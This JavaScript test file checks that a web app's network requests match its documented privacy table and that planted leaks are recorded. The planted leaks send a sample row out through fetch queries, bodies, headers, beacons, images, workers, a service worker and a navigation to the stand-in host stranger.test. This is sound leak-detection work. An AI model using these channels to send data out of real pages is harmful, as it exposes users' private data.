/**
 * Every request of a person's ways through the page is one of docs/privacy.md: same server or another, page, worker or service worker. And
 * a request that should not be is found.
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { asTable, openRecorded, UPDATE_CHECK, walk } from "./support/journeys.mjs";
import { openSite } from "./support/site.mjs";

const ROW = "my-patient-has-a-cough";
const [table] =
  /^\| step[\s\S]*?(?=\n\n)/m.exec(readFileSync(new URL("../../docs/privacy.md", import.meta.url), "utf8")) ?? [];

/** A page or a worker. @typedef {{ evaluate(work: (value: string) => unknown, value: string): Promise<unknown> }} Place */

/** @type {Awaited<ReturnType<typeof openSite>>} */
let site;
before(async () => {
  site = await openSite({ flags: ["--host-resolver-rules=MAP stranger.test 127.0.0.1"] });
});
after(() => site?.close());

test("each step asks for what docs/privacy.md says, and for nothing else", async () => {
  assert.equal(asTable(await walk(site)), table);
});

/** How a text could leave: where from, and what is run there. The page's own address would be answered from storage. @type {[string, "page" | "worker" | "service worker", (row: string) => void][]} */
const plants = [
  ["a query to the page's own server", "page", (row) => void fetch(`./other?q=${row}`)],
  ["a body", "page", (row) => void fetch("./other", { method: "POST", body: row })],
  ["a header", "page", (row) => void fetch("./other", { headers: { accept: row, "x-note": row } })],
  ["a beacon", "page", (row) => void navigator.sendBeacon("./other", row)],
  ["a stream of events", "page", (row) => void new EventSource(`./other?${row}`)],
  ["an image", "page", (row) => void Object.assign(new Image(), { src: `./dot.png?${row}` })],
  ["a query from the worker", "worker", (row) => void fetch(new URL(`/?q=${row}`, origin))],
  ["a body from the worker", "worker", (row) => void fetch(new URL("/", origin), { method: "POST", body: row })],
  ["a request of the service worker", "service worker", (row) => void fetch(`./other?q=${row}`)],
  ["a way to another page", "page", (row) => location.assign(`http://stranger.test/${row}`)],
];

test("a row that leaves in any of these ways is written down", async () => {
  const { page, ledger, context } = await openRecorded(site);
  try {
    await page.paste("text,label\na,b\nc,d\n");
    const [worker] = page.raw.workers();
    const [serviceWorker] = context.serviceWorkers();
    assert.ok(worker && serviceWorker);
    /** @type {Record<string, Place>} */
    const places = { page: page.raw, worker, "service worker": serviceWorker };
    await ledger.take();
    await page.raw.evaluate((row) => void new WebSocket(`ws://${location.host}/${row}`), ROW);
    await page.raw.waitForTimeout(300);
    const [socket] = (await ledger.take()).filter((line) => line !== UPDATE_CHECK);
    assert.equal(socket, `CONNECT ${new URL(site.origin).host}`);
    for (const [name, where, plant] of plants) {
      await places[where]?.evaluate(plant, ROW);
      await page.raw.waitForTimeout(300);
      const found = (await ledger.take()).filter((line) => line !== UPDATE_CHECK);
      assert.ok(found.length > 0 && found.every((line) => line.includes(ROW)), `${name}: ${found.join("\n")}`);
    }
  } finally {
    await context.close();
    await ledger.close();
  }
});

test("WebRTC and a server that no test names fail any test of the page", async () => {
  const { page, close } = await site.open();
  await page.raw.evaluate(() => void new RTCPeerConnection());
  await assert.rejects(close(), /WebRTC was asked for/);

  const other = await site.open();
  await other.page.raw.evaluate(() => location.assign("http://stranger.test/"));
  await other.page.raw.waitForTimeout(500);
  await assert.rejects(other.close(), /stranger\.test/);
});
